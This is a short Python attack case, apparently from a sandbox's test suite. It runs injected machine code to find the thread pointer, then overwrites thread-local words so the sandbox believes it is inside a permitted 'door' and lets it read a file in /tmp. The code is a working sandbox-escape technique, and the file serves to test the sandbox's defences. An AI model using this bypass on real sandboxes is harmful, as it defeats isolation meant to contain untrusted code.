# class: machine_code
# rule: native_code
# success: the thread's state is overwritten so that the core believes itself inside a door, and a
#   file in /tmp is read
# proof: read
# needs: x86_64 python<3.13
import ctypes
import os
import struct

from attack import FILE, attempt, libc

CODE = bytes.fromhex("64488b042500000000c3")  # mov rax, fs:0; ret


@attempt
def steal():
    import mmap

    memory = mmap.mmap(-1, 4096, prot=7)
    memory.write(CODE)
    thread = ctypes.CFUNCTYPE(ctypes.c_ulong)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
    opener = libc().open
    # What the loader laid out below the thread pointer, nearest first: each word in turn is made to
    # say "inside".
    for at in range(thread - 4, thread - 4096, -4):
        before = ctypes.string_at(at, 4)
        if before != bytes(4):
            continue
        ctypes.memmove(at, b"\1\0\0\0", 4)
        fd = opener(FILE.encode(), os.O_RDONLY)
        ctypes.memmove(at, before, 4)
        if fd >= 0:
            return os.read(fd, 100)
    return struct.pack("")
